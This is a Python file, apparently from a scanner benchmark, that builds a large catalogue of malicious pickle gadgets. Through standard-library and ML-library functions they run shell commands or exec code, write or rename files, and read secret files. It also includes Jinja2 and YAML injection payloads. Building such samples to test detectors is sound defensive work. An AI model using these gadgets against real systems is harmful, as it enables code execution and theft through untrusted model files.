"""Pickles that reach code, files or the network through functions of the standard library and of ML libraries."""

from __future__ import annotations

import marshal
import struct

from tests.support.asm import (
    BUILD,
    EMPTY_DICT,
    EMPTY_LIST,
    EMPTY_TUPLE,
    MARK,
    NONE,
    REDUCE,
    STACK_GLOBAL,
    STOP,
    TUPLE,
    TUPLE1,
    call,
    glob,
    number,
    proto,
    text,
)

from bench.corpus.sample import CODE, MARKER, SECRET, SHELL, Sample, single

T = text


def items(*values: bytes) -> bytes:
    """A list."""
    return EMPTY_LIST + MARK + b"".join(values) + b"e"


def pairs(*values: bytes) -> bytes:
    """A dict from keys and values in turn."""
    return EMPTY_DICT + MARK + b"".join(values) + b"u"


def dotted(module: str, name: str, *arguments: bytes) -> bytes:
    """A call of a name with dots."""
    return T(module) + T(name) + STACK_GLOBAL + MARK + b"".join(arguments) + TUPLE + REDUCE


def again(function: bytes, *arguments: bytes) -> bytes:
    """A call of what is on the stack."""
    return function + MARK + b"".join(arguments) + TUPLE + REDUCE


def blob(data: bytes) -> bytes:
    """A byte string."""
    return b"B" + struct.pack("<I", len(data)) + data


def whole(body: bytes) -> bytes:
    """A stream of protocol 4."""
    return proto(4) + body + STOP


EXEC = call("builtins", "exec", T(CODE))
INNER = whole(EXEC)
TRUE = b"\x88"
FALSE = b"\x89"

PROCESSES = {
    "os.system": call("os", "system", T(SHELL)),
    "posix.system": call("posix", "system", T(SHELL)),
    "nt-style os.popen": call("os", "popen", T(SHELL)),
    "os.spawnlp": call("os", "spawnlp", number(0), T("sh"), T("sh"), T("-c"), T(SHELL)),
    "subprocess.Popen": call("subprocess", "Popen", items(T("sh"), T("-c"), T(SHELL))),
    "subprocess.run": call("subprocess", "run", items(T("sh"), T("-c"), T(SHELL))),
    "subprocess.call": call("subprocess", "call", items(T("sh"), T("-c"), T(SHELL))),
    "subprocess.check_output": call("subprocess", "check_output", items(T("sh"), T("-c"), T(SHELL))),
    "subprocess.getoutput": call("subprocess", "getoutput", T(SHELL)),
    "pty.spawn": call("pty", "spawn", items(T("sh"), T("-c"), T(SHELL))),
    "commands.getoutput of Python 2": proto(2) + call("commands", "getoutput", T(SHELL)),
    "builtins.exec": EXEC,
    "builtins.eval": call("builtins", "eval", T(CODE)),
    "compile and exec": call("builtins", "exec", call("builtins", "compile", T(CODE), T("x"), T("exec"))),
    "marshal and FunctionType": again(
        call(
            "types",
            "FunctionType",
            call("marshal", "loads", blob(marshal.dumps(compile(CODE, "x", "exec")))),
            EMPTY_DICT,
        )
    ),
}

STDLIB = {
    "runpy._run_code": call("runpy", "_run_code", call("builtins", "compile", T(CODE), T("x"), T("exec")), EMPTY_DICT),
    "timeit.timeit": call("timeit", "timeit", T(CODE), T("pass"), glob("time", "perf_counter"), number(1)),
    "timeit.repeat": call("timeit", "repeat", T(CODE), T("pass"), glob("time", "perf_counter"), number(1), number(1)),
    "timeit.main": call("timeit", "main", items(T("-n1"), T("-r1"), T(CODE))),
    "cProfile.run": call("cProfile", "run", T(CODE)),
    "cProfile.runctx": call("cProfile", "runctx", T(CODE), EMPTY_DICT, EMPTY_DICT),
    "profile.run": call("profile", "run", T(CODE)),
    "profile.Profile.run": dotted("profile", "Profile.run", call("profile", "Profile"), T(CODE)),
    "trace.Trace.run": dotted("trace", "Trace.run", call("trace", "Trace", number(0), number(0)), T(CODE)),
    "bdb.Bdb.run": dotted("bdb", "Bdb.run", call("bdb", "Bdb"), T(CODE)),
    "code.InteractiveInterpreter": dotted(
        "code", "InteractiveInterpreter.runsource", call("code", "InteractiveInterpreter"), T(CODE)
    ),
    "pydoc.pipepager": call("pydoc", "pipepager", T("x"), T(SHELL)),
    "pydoc.tempfilepager": call("pydoc", "tempfilepager", T("x"), T(SHELL + " #")),
    "idlelib.calltip.get_entity": call("idlelib.calltip", "get_entity", T(CODE)),
    "idlelib.run.Executive": dotted("idlelib.rpc", "builtins.exec", T(CODE)),
    "lib2to3 Grammar.loads": dotted(
        "lib2to3.pgen2.grammar", "Grammar.loads", call("lib2to3.pgen2.grammar", "Grammar"), blob(INNER)
    ),
    "ctypes.CDLL": again(
        call("builtins", "getattr", call("ctypes", "CDLL", NONE), T("system")), blob(SHELL.encode())
    ),
    "ctypes through operator": again(
        again(call("operator", "attrgetter", T("system")), call("ctypes", "PyDLL", NONE)), blob(SHELL.encode())
    ),
    "operator.methodcaller": again(
        call("operator", "methodcaller", T("system"), T(SHELL)), call("importlib", "import_module", T("os"))
    ),
    "operator.itemgetter": again(
        again(call("operator", "itemgetter", T("exec")), glob("builtins", "__dict__")), T(CODE)
    ),
    "importlib.__import__": again(
        call("builtins", "getattr", call("importlib", "__import__", T("os")), T("system")), T(SHELL)
    ),
    "pkgutil.resolve_name": again(call("pkgutil", "resolve_name", T("os:system")), T(SHELL)),
    "pydoc.locate": again(call("pydoc", "locate", T("os.system")), T(SHELL)),
    "logging.config._resolve": again(call("logging.config", "_resolve", T("os.system")), T(SHELL)),
    "logging.config.dictConfig": call(
        "logging.config",
        "dictConfig",
        pairs(T("version"), number(1), T("formatters"), pairs(T("f"), pairs(T("()"), T("os.system"), T("command"), T(SHELL)))),
    ),
    "functools.partial": again(call("functools", "partial", glob("builtins", "exec"), T(CODE))),
    "functools.reduce": call("functools", "reduce", glob("builtins", "exec"), items(T(CODE), EMPTY_DICT)),
    "functools.partialmethod": dotted(
        "functools", "partial.__call__", call("functools", "partial", glob("os", "system"), T(SHELL))
    ),
    "functools.lru_cache": again(call("functools", "_lru_cache_wrapper", glob("builtins", "exec"), number(1), FALSE, glob("functools", "_CacheInfo")), T(CODE)),
    "map in a list": call("builtins", "list", call("builtins", "map", glob("builtins", "exec"), items(T(CODE)))),
    "map in a deque": call("collections", "deque", call("builtins", "map", glob("builtins", "exec"), items(T(CODE)))),
    "map in a set": call("builtins", "set", call("builtins", "map", glob("os", "system"), items(T(SHELL)))),
    "filter in any": call("builtins", "any", call("builtins", "filter", glob("os", "system"), items(T(SHELL)))),
    "itertools.starmap": call(
        "builtins", "list", call("itertools", "starmap", glob("builtins", "exec"), items(T(CODE) + TUPLE1))
    ),
    "itertools.accumulate": call(
        "builtins", "list", call("itertools", "accumulate", items(T(CODE), EMPTY_DICT), glob("builtins", "exec"))
    ),
    "itertools.takewhile": call(
        "builtins", "tuple", call("itertools", "takewhile", glob("os", "system"), items(T(SHELL)))
    ),
    "heapq.nsmallest with a key": call("heapq", "nsmallest", number(1), items(T(CODE)), glob("builtins", "exec")),
    "iter with a sentinel": call(
        "builtins", "next", call("builtins", "iter", call("functools", "partial", glob("os", "system"), T(SHELL)), number(7))
    ),
    "collections.defaultdict": dotted(
        "collections",
        "defaultdict.__missing__",
        call("collections", "defaultdict", call("functools", "partial", glob("os", "system"), T(SHELL))),
        T("x"),
    ),
    "copy._reconstruct": call("copy", "_reconstruct", NONE, NONE, glob("builtins", "exec"), T(CODE) + TUPLE1),
    "contextlib.ExitStack": call("contextlib", "ExitStack") + b"\x940"
    + dotted("contextlib", "ExitStack.callback", b"h\0", glob("builtins", "exec"), T(CODE)) + b"0"
    + dotted("contextlib", "ExitStack.close", b"h\0"),
    "threading.Timer": dotted("threading", "Timer.run", call("threading", "Timer", number(0), glob("os", "system"), items(T(SHELL)))),
    "threading.Thread": dotted(
        "threading", "Thread.start", call("threading", "Thread", NONE, glob("os", "system"), NONE, T(SHELL) + TUPLE1)
    ),
    "sched.scheduler": call("sched", "scheduler") + b"\x940"
    + dotted("sched", "scheduler.enter", b"h\0", number(0), number(1), glob("os", "system"), T(SHELL) + TUPLE1) + b"0"
    + dotted("sched", "scheduler.run", b"h\0"),
    "concurrent.futures": dotted(
        "concurrent.futures.thread", "_WorkItem.run",
        call("concurrent.futures.thread", "_WorkItem", call("concurrent.futures", "Future"), glob("builtins", "exec"), T(CODE) + TUPLE1, EMPTY_DICT),
    ),
    "atexit.register": call("atexit", "register", glob("builtins", "exec"), T(CODE)),
    "weakref.finalize": call("weakref", "finalize", call("collections", "OrderedDict"), glob("builtins", "exec"), T(CODE)),
    "asyncio subprocess": call("asyncio", "run", call("asyncio", "create_subprocess_shell", T(SHELL))),
    "multiprocessing.spawnv_passfds": call(
        "multiprocessing.util", "spawnv_passfds", blob(b"/bin/sh"), items(T("sh"), T("-c"), T(SHELL)), EMPTY_LIST
    ),
    "multiprocessing.Process.run": dotted(
        "multiprocessing", "Process.run", call("multiprocessing", "Process", NONE, glob("os", "system"), NONE, T(SHELL) + TUPLE1)
    ),
    "webbrowser.GenericBrowser": dotted(
        "webbrowser", "GenericBrowser.open", call("webbrowser", "GenericBrowser", items(T("sh"), T("-c"), T(SHELL))), T("x")
    ),
    "imaplib.IMAP4_stream": call("imaplib", "IMAP4_stream", T(SHELL)),
    "uuid._get_command_stdout": call("uuid", "_get_command_stdout", T("python3"), T("-c"), T(CODE)),
    "platform.popen-like _syscmd": call("distutils.spawn", "spawn", items(T("sh"), T("-c"), T(SHELL))),
    "setuptools run": call("setuptools._distutils.spawn", "spawn", items(T("sh"), T("-c"), T(SHELL))),
    "test.support.script_helper": call("test.support.script_helper", "assert_python_ok", T("-c"), T(CODE)),
    "typing.ForwardRef": dotted(
        "typing", "ForwardRef._evaluate", call("typing", "ForwardRef", T("[" + CODE + " or 1][0]")), EMPTY_DICT, EMPTY_DICT, call("builtins", "frozenset")
    ),
    "collections.namedtuple rename": dotted("collections", "_sys.modules.get", T("os")) + b"0"
    + again(call("builtins", "getattr", dotted("collections", "_sys.modules.get", T("posix")), T("system")), T(SHELL)),
    "dataclasses._create_fn": call(
        "dataclasses", "_create_fn", T("f"), items(T("x=" + CODE)), items(T("pass"))
    ),
    "enum through types.new_class": call(
        "types", "new_class", T("C"), EMPTY_TUPLE, NONE, call("functools", "partial", glob("builtins", "exec"), T(CODE))
    ),
    "xmlrpc dispatch": dotted("xmlrpc.server", "SimpleXMLRPCDispatcher._dispatch",
        call("types", "SimpleNamespace") + NONE + pairs(T("funcs"), pairs(T("f"), glob("os", "system"))) + b"\x86" + BUILD, T("f"), items(T(SHELL))),
    "smtpd and cgitb.lookup": dotted("cgitb", "os.system", T(SHELL)),
    "pstats.Stats": call("pickle", "loads", blob(INNER)),
    "_pickle.loads": call("_pickle", "loads", blob(INNER)),
    "pickle.Unpickler.load": dotted("pickle", "_Unpickler.load", call("pickle", "_Unpickler", call("io", "BytesIO", blob(INNER)))),
    "pickle._load": call("pickle", "_load", call("io", "BytesIO", blob(INNER))),
    "multiprocessing ForkingPickler": dotted("multiprocessing.reduction", "ForkingPickler.loads", blob(INNER)),
    "multiprocessing.connection": call("multiprocessing.reduction", "pickle.loads", blob(INNER)),
    "string.Formatter": again(call("builtins", "getattr", glob("builtins", "__dict__"), T("get")), T("exec")) + T(CODE) + TUPLE1 + REDUCE,
    "exec by method-wrapper": dotted("builtins", "exec.__call__", T(CODE)),
    "os by site": dotted("site", "os.system", T(SHELL)),
    "os through inspect": dotted("inspect", "os.system", T(SHELL)),
    "subprocess through asyncio": dotted("asyncio.base_events", "subprocess.getoutput", T(SHELL)),
    "globals of a function": again(
        dotted("collections", "namedtuple.__globals__.get", T("__builtins__")) + b"\x940"
        + dotted("operator", "itemgetter", T("exec")), b"h\0"
    ) + T(CODE) + TUPLE1 + REDUCE,
}  # fmt: skip

FILES = {
    "io.open": call("io", "open", T(MARKER), T("w")),
    "builtins.open": call("builtins", "open", T(MARKER), T("w")),
    "codecs.open": call("codecs", "open", T(MARKER), T("w")),
    "_io.FileIO": call("_io", "FileIO", T(MARKER), T("w")),
    "pathlib touch": dotted("pathlib", "Path.touch", call("pathlib", "PosixPath", T(MARKER))),
    "pathlib write_text": dotted("pathlib", "Path.write_text", call("pathlib", "PosixPath", T(MARKER)), T("x")),
    "shutil.copyfile": call("shutil", "copyfile", T(SECRET), T(MARKER)),
    "shutil.move": call("shutil", "move", T(SECRET), T(MARKER)),
    "os.rename": call("os", "rename", T(SECRET), T(MARKER)),
    "os.mkdir": call("os", "mkdir", T(MARKER)),
    "os.symlink": call("os", "symlink", T("/etc"), T(MARKER)),
    "sqlite3.connect": call("sqlite3", "connect", T(MARKER)),
    "logging.FileHandler": call("logging", "FileHandler", T(MARKER)),
    "zipfile.ZipFile": call("zipfile", "ZipFile", T(MARKER), T("w")),
    "tarfile.open": call("tarfile", "open", T(MARKER), T("w")),
    "gzip.open": call("gzip", "open", T(MARKER), T("wb")),
    "gzip.GzipFile": call("gzip", "GzipFile", T(MARKER), T("wb")),
    "bz2.BZ2File": call("bz2", "BZ2File", T(MARKER), T("w")),
    "lzma.LZMAFile": call("lzma", "LZMAFile", T(MARKER), T("w")),
    "dbm.dumb": call("dbm.dumb", "open", T(MARKER)) + call("os", "rename", T(MARKER + ".dat"), T(MARKER)),
    "distutils write_file": call("distutils.file_util", "write_file", T(MARKER), items(T("x"))),
    "urllib.request.urlretrieve": call("urllib.request", "urlretrieve", T("data:,x"), T(MARKER)),
    "mailbox.Maildir": call("mailbox", "Maildir", T(MARKER)),
    "wave.open": call("wave", "open", T(MARKER), T("wb")),
    "py_compile": call("py_compile", "compile", T(SECRET), T(MARKER)),
    "linecache.getlines (reads)": call("linecache", "getlines", T(SECRET)),
    "fileinput (reads)": call("builtins", "list", call("fileinput", "FileInput", T(SECRET))),
    "pathlib read_text (reads)": dotted("pathlib", "Path.read_text", call("pathlib", "PosixPath", T(SECRET))),
    "open and list (reads)": call("builtins", "list", call("io", "open", T(SECRET))),
}  # fmt: skip

NUMPY = {
    "numpy.f2py.crackfortran.getlincoef": call("numpy.f2py.crackfortran", "getlincoef", T(CODE), pairs(T("x"), number(1))),
    "numpy.f2py.crackfortran.myeval": call("numpy.f2py.crackfortran", "myeval", T(CODE)),
    "numpy runstring": call("numpy.testing._private.utils", "runstring", T(CODE), EMPTY_DICT),
    "numpy measure": call("numpy.testing", "measure", T(CODE)),
    "numpy.vectorize": again(call("numpy", "vectorize", glob("builtins", "exec")), T(CODE)),
    "numpy.frompyfunc": again(call("numpy", "frompyfunc", glob("builtins", "exec"), number(1), number(1)), T(CODE)),
    "numpy.fromiter over map": call(
        "numpy", "fromiter", call("builtins", "map", glob("os", "system"), items(T(SHELL))), T("i4")
    ),
    "numpy.apply_along_axis": call(
        "numpy", "apply_along_axis", call("operator", "methodcaller", T("tofile"), T(MARKER)), number(0),
        call("numpy", "ones", number(3)),
    ),
    "numpy.save": call("numpy", "savetxt", T(MARKER), items(number(1))),
    "numpy.memmap": call("numpy", "memmap", T(MARKER), T("u1"), T("w+"), number(0), number(4) + TUPLE1),
    "numpy.ndarray.tofile": dotted("numpy", "ndarray.tofile", call("numpy", "ones", number(3)), T(MARKER)),
    "numpy.load": call("numpy", "load", call("io", "BytesIO", blob(INNER)), NONE, TRUE),
    "os through numpy": dotted("numpy.lib._npyio_impl", "os.system", T(SHELL)),
    "numpy.fromfile (reads)": dotted("numpy", "ndarray.tobytes", call("numpy", "fromfile", T(SECRET), T("u1"))),
    "numpy.loadtxt (reads)": call("numpy", "loadtxt", T(SECRET), T("U30")),
    "numpy exec_mod": call("numpy.f2py", "subprocess.getoutput", T(SHELL)),
}  # fmt: skip

OTHERS = {
    "torch collect_env.run": call("torch.utils.collect_env", "run", T(SHELL)),
    "torch unsupported_tensor_ops": call("torch.jit.unsupported_tensor_ops", "execWrapper", T(CODE), EMPTY_DICT, EMPTY_DICT),
    "torch _load_from_bytes": call("torch.storage", "_load_from_bytes", blob(INNER)),
    "os through torch.serialization": dotted("torch", "serialization.os.system", T(SHELL)),
    "os through torch.nn": dotted("torch.nn", "modules.module.torch.serialization.os.system", T(SHELL)),
    "torch._utils._import_dotted_name": again(call("torch._utils", "_import_dotted_name", T("os.system")), T(SHELL)),
    "torch _rebuild_from_type_v2": call(
        "torch._tensor", "_rebuild_from_type_v2", glob("builtins", "exec"), glob("builtins", "int"), T(CODE) + TUPLE1, NONE
    ),
    "torch.utils.checkpoint": call("torch.utils.checkpoint", "checkpoint", glob("builtins", "exec"), T(CODE)),
    "torch nn.Module.apply": dotted(
        "torch.nn", "Module._call_impl",
        call("torch.nn", "Identity") + pairs(T("forward"), glob("builtins", "exec")) + BUILD, T(CODE)
    ),
    "torch config load": call("torch.utils._config_module", "pickle.loads", blob(INNER)),
    "torch.multiprocessing": dotted("torch.multiprocessing", "reductions.os.system", T(SHELL)),
    "torch cpp_extension": dotted("torch.utils.cpp_extension", "subprocess.getoutput", T(SHELL)),
    "torch fx": call("torch.fx.graph_module", "_exec_with_source", T(CODE), EMPTY_DICT),
    "torch fx reduce_graph_module": call("torch.fx.graph_module", "_forward_from_src", T("forward=" + CODE), EMPTY_DICT),
    "torch.save": call("torch", "save", items(), T(MARKER)),
    "torch from_file": call("torch", "from_file", T(MARKER), TRUE, number(4)),
    "pandas.read_pickle": call("pandas", "read_pickle", call("io", "BytesIO", blob(INNER))),
    "pandas apply": dotted("pandas", "Series.map", call("pandas", "Series", items(T(CODE))), glob("builtins", "exec")),
    "pandas to_csv": dotted("pandas", "Series.to_csv", call("pandas", "Series", items(number(1))), T(MARKER)),
    "pandas read_csv (reads)": dotted("pandas", "DataFrame.to_csv", call("pandas", "read_csv", T(SECRET))),
    "pandas compute eval": dotted("pandas.io.common", "os.system", T(SHELL)),
    "pandas.io.pickle": dotted("pandas.io.pickle", "pickle.loads", blob(INNER)),
    "scipy savemat": call("scipy.io", "savemat", T(MARKER), pairs(T("a"), number(1)), FALSE),
    "scipy through os": dotted("scipy._lib._util", "functools.partial.__call__", call("functools", "partial", glob("os", "system"), T(SHELL))),
    "scipy MapWrapper": again(call("scipy._lib._util", "MapWrapper", number(1)), glob("os", "system"), items(T(SHELL))) + b"\x940" + call("builtins", "list", b"h\0"),
    "scipy _FunctionWrapper": again(call("scipy._lib._util", "_FunctionWrapper", glob("builtins", "eval"), pairs(T("x"), number(1)) + TUPLE1), T(CODE)),
    "sklearn FunctionTransformer": dotted(
        "sklearn.preprocessing", "FunctionTransformer._transform",
        call("sklearn.preprocessing", "FunctionTransformer"), T(CODE), glob("builtins", "exec")
    ),
    "sklearn through os": dotted("sklearn.datasets._base", "os.system", T(SHELL)),
    "joblib.load": call("joblib", "load", call("io", "BytesIO", blob(INNER))),
    "joblib.dump": call("joblib", "dump", number(1), T(MARKER)),
    "joblib memory": dotted("joblib.memory", "os.system", T(SHELL)),
    "joblib numpy_pickle": dotted("joblib.numpy_pickle", "load", call("io", "BytesIO", blob(INNER))),
    "joblib _reconstruct": call("joblib.hashing", "pickle.loads", blob(INNER)),
    "cloudpickle.loads": call("cloudpickle", "loads", blob(INNER)),
    "cloudpickle make_function": again(call("cloudpickle.cloudpickle", "_make_function", call("builtins", "compile", T(CODE), T("x"), T("exec")), EMPTY_DICT, NONE, NONE, NONE)),
    "cloudpickle subimport": again(call("builtins", "getattr", call("cloudpickle.cloudpickle", "subimport", T("os")), T("system")), T(SHELL)),
    "dill.loads": call("dill", "loads", blob(INNER)),
    "dill _create_function": again(call("dill._dill", "_create_function", call("builtins", "compile", T(CODE), T("x"), T("exec")), EMPTY_DICT)),
    "dill _load_type": call("dill._dill", "_eval_repr", T(CODE)),
    "sympy.sympify": call("sympy", "sympify", T(CODE)),
    "sympy lambdify": call("sympy.parsing.sympy_parser", "eval_expr", T(CODE), EMPTY_DICT, EMPTY_DICT),
    "xgboost save": dotted("xgboost.core", "os.system", T(SHELL)),
    "catboost through os": dotted("catboost.core", "os.system", T(SHELL)),
    "transformers through os": dotted("transformers.utils.hub", "os.system", T(SHELL)),
    "keras through os": dotted("keras.src.utils.file_utils", "os.system", T(SHELL)),
    "jinja2 Template": dotted("jinja2", "Template.render", call("jinja2", "Template", T("{{ cycler.__init__.__globals__.os.system(" + repr(SHELL) + ") }}"))),
    "yaml.unsafe_load": call("yaml", "unsafe_load", T("!!python/object/apply:os.system [" + repr(SHELL).replace("\\", "") + "]")),
    "mlflow through os": dotted("mlflow.pyfunc", "os.system", T(SHELL)),
    "pip.main": call("pip._internal.utils.subprocess", "subprocess.getoutput", T(SHELL)),
    "fsspec": dotted("fsspec.implementations.local", "LocalFileSystem.touch", call("fsspec.implementations.local", "LocalFileSystem"), T(MARKER)),
    "requests session": dotted("requests.utils", "os.system", T(SHELL)),
    "huggingface_hub": dotted("huggingface_hub.constants", "os.system", T(SHELL)),
    "PIL": dotted("tqdm.utils", "os.system", T(SHELL)),
}  # fmt: skip
_HEAVY = {
    "torch": "torch", "pandas": "pandas", "scipy": "scipy", "sklearn": "sklearn", "keras": "keras",
    "transformers": "transformers", "xgboost": "sklearn", "lightgbm": "sklearn", "catboost": "sklearn",
    "sympy": "torch", "mlflow": "mlflow",
}  # fmt: skip


def samples() -> list[Sample]:
    """Each gadget as a pickle of its own."""
    found = []
    for evasion, table in (
        ("pickle-plain", PROCESSES),
        ("gadget-stdlib", STDLIB),
        ("gadget-files", FILES),
        ("gadget-numpy", NUMPY),
        ("gadget-libraries", OTHERS),
    ):
        for name, body in table.items():
            loader = "pickle"
            if evasion == "gadget-libraries":
                loader = "joblib" if name.startswith("joblib") else "pickle"
            slug = name.replace(" ", "-").replace("/", "-").replace("'", "")
            data = body + STOP if body.startswith(b"\x80") else whole(body)
            found.append(single(evasion, slug + ".pkl", data, loader))
    return found
